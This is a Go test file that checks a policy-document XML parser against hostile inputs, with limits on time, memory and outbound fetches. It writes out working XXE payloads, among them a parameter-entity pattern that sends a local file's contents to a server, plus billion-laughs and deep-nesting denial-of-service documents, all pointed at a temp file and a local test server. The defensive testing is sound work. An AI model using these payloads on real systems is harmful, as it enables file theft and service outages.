package document_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/sallyport/sallyport/internal/clock/cputest"
	"github.com/sallyport/sallyport/internal/policy/document"
)

// Limits of the promise S12, for one document.
const (
	hostileTime  = 50 * time.Millisecond
	hostileBytes = 10 << 20
)

// hostile is a document that attacks XML parsers.
type hostile struct {
	name   string
	src    string
	limits document.Limits
	read   bool // It is a harmless document for us.
}

// hostileDocuments refer to a file and to a server that must not be asked.
func hostileDocuments(file, url string) []hostile {
	doctype := func(subset, body string) string {
		return "<!DOCTYPE policies [" + subset + "]>\n<policies><set-body>" + body + "</set-body></policies>"
	}
	var laughs strings.Builder
	laughs.WriteString(`<!ENTITY l0 "lol">`)
	for i := 1; i < 10; i++ {
		fmt.Fprintf(&laughs, `<!ENTITY l%d "%s">`, i, strings.Repeat(fmt.Sprintf("&l%d;", i-1), 10))
	}
	roomy := document.Limits{DocumentBytes: 1 << 24, FragmentBytes: 1 << 24}
	unclosed := func(s string, n int) string { return "<policies>" + strings.Repeat(s, n) + "</policies>" }
	return []hostile{
		{name: "XXE: file", src: doctype(`<!ENTITY x SYSTEM "file://`+file+`">`, "&x;")},
		{name: "XXE: server", src: doctype(`<!ENTITY x SYSTEM "`+url+`/x">`, "&x;")},
		{name: "XXE: public identifier", src: doctype(`<!ENTITY x PUBLIC "a" "`+url+`/x">`, "&x;")},
		{name: "XXE: parameter entity", src: doctype(`<!ENTITY % p SYSTEM "`+url+`/p"> %p;`, "&x;")},
		{name: "XXE: parameter entity that sends a file", src: doctype(`<!ENTITY % f SYSTEM "file://`+file+`"><!ENTITY % e "<!ENTITY &#37; s SYSTEM '`+url+`/?%f;'>">%e;%s;`, "")},
		{name: "XXE: in an attribute", src: `<policies><a b="&x;" /></policies>`},
		{name: "XXE: document type inside", src: "<policies>" + doctype(`<!ENTITY x SYSTEM "file://`+file+`">`, "&x;") + "</policies>"},
		{name: "XXE: document type behind a comment and in lower case", src: `<!-- --><!doctype policies SYSTEM "` + url + `/d"><policies />`},
		{name: "external document type", src: `<!DOCTYPE policies SYSTEM "` + url + `/d.dtd"><policies />`},
		{name: "billion laughs", src: doctype(laughs.String(), "&l9;")},
		{name: "quadratic blow-up", src: doctype(`<!ENTITY a "`+strings.Repeat("a", 50_000)+`">`, strings.Repeat("&a;", 50_000))},
		{name: "style sheet instruction", src: `<?xml-stylesheet href="` + url + `/s.xsl"?><policies />`},
		{name: "XInclude", src: `<policies xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://` + file + `" parse="text" /><xi:include href="` + url + `/i" /></policies>`, read: true},
		{name: "schema location", src: `<policies xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a ` + url + `/s.xsd" />`, read: true},
		{name: "a million deep", src: "<policies>" + strings.Repeat("<a>", 1_000_000)},
		{name: "a million deep, size allowed", src: "<policies>" + strings.Repeat("<a>", 1_000_000), limits: roomy},
		{name: "a million brackets", src: "<policies>@(" + strings.Repeat("(", 1_000_000), limits: roomy},
		{name: "a million elements", src: unclosed("<a/>", 1_000_000), limits: roomy},
		{name: "a million attributes", src: "<policies " + strings.Repeat(`a="" `, 1_000_000) + "/>", limits: roomy},
		{name: "interpolations in each other", src: "<policies>@(" + strings.Repeat(`$"{`, 80_000), limits: roomy},
		{name: "a long name", src: "<" + strings.Repeat("a", 250_000) + ">"},
		{name: "many open expressions in text", src: unclosed("x @( ", 50_000)},
		{name: "many open expressions in an attribute", src: `<policies a="` + strings.Repeat("x @( ", 50_000) + `" />`, read: true},
		{name: "many open expressions in CDATA", src: "<policies><![CDATA[" + strings.Repeat("x @( ", 50_000) + "]]></policies>", read: true},
		{name: "many open comments", src: unclosed("<!--", 60_000)},
		{name: "many open CDATA sections", src: unclosed("<![CDATA[", 25_000)},
		{name: "many open references", src: unclosed("&", 250_000), read: true},
		{name: "many end tags", src: unclosed("</a>", 60_000)},
		{name: "many named values", src: unclosed("{{ a }}", 35_000), read: true},
		{name: "one long line", src: unclosed(`<a b="@(1)">x</a>`, document.MaxElements-1), read: true},
		{name: "references", src: unclosed("&lt;", 65_000), read: true},
		{name: "ends of lines", src: unclosed("\n", 250_000), read: true},
	}
}

// TestS12_PolicyDocuments measures documents that attack XML parsers.
func TestS12_PolicyDocuments(t *testing.T) {
	worst, most := time.Duration(0), uint64(0)
	file, server, hits := attractions(t)
	for _, h := range hostileDocuments(file, server) {
		t.Run(h.name, func(t *testing.T) {
			src := []byte(h.src)
			took, allocated := measure(3, func() { checkHostile(t, h, src) })
			worst, most = max(worst, took), max(most, allocated)
			if took > hostileTime || allocated > hostileBytes {
				t.Errorf("took %v and %d bytes", took, allocated)
			}
		})
	}
	fetches := hits.Load()
	if fetches > 0 {
		t.Errorf("%d fetches", fetches)
	}
	t.Logf("S12: %d fetches (0), %v at most (%v), %.1f MB at most (%d MB)", fetches, worst, hostileTime, float64(most)/(1<<20), hostileBytes>>20)
}

func checkHostile(t *testing.T, h hostile, src []byte) {
	t.Helper()
	out, mapping, _ := document.Substitute(src, lookup(nil))
	root, err := document.ParseMapped(out, mapping, document.Auto, h.limits)
	if h.read != (err == nil) {
		t.Errorf("the error is %v", err)
	}
	if err != nil && len(err.Error()) > 20_000 {
		t.Errorf("the error has %d bytes", len(err.Error()))
	}
	if root != nil {
		walk(root, func(e *document.Element) {
			if strings.Contains(e.Text.Value, "TOP SECRET") {
				t.Error("the file was read")
			}
		})
	}
}

// TestS12_PolicyDocuments_NegativeControl lifts the limits that stop a document
// that is very deep: then the measurement must be over its limit.
func TestS12_PolicyDocuments_NegativeControl(t *testing.T) {
	const depth = 200_000
	src := []byte(strings.Repeat("<policies>", depth) + strings.Repeat("</policies>", depth))
	lifted := document.Limits{DocumentBytes: 1 << 26, Depth: 1 << 21, Elements: 1 << 21}
	took, allocated := measure(1, func() {
		if _, err := document.Parse(src, document.Auto, lifted); err != nil {
			t.Error(err)
		}
	})
	if allocated <= hostileBytes {
		t.Errorf("without limits it takes only %d bytes", allocated)
	}
	t.Logf("S12 without limits: %v, %.0f MB", took, float64(allocated)/(1<<20))
}

// attractions are a file and a server that a careless parser would read.
func attractions(t *testing.T) (file, url string, hits *atomic.Int64) {
	t.Helper()
	file = filepath.Join(t.TempDir(), "secret")
	if err := os.WriteFile(file, []byte("TOP SECRET"), 0o600); err != nil {
		t.Fatal(err)
	}
	hits = new(atomic.Int64)
	server := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { hits.Add(1) }))
	t.Cleanup(server.Close)
	return file, server.URL, hits
}

// measure returns the processor time of the fastest of some runs, and the bytes that the first one allocated.
func measure(runs int, run func()) (took time.Duration, allocated uint64) {
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	for i := range runs {
		if used := cputest.Time(run); i == 0 || used < took {
			took = used
		}
		if i == 0 {
			runtime.ReadMemStats(&after)
		}
	}
	return took, after.TotalAlloc - before.TotalAlloc
}
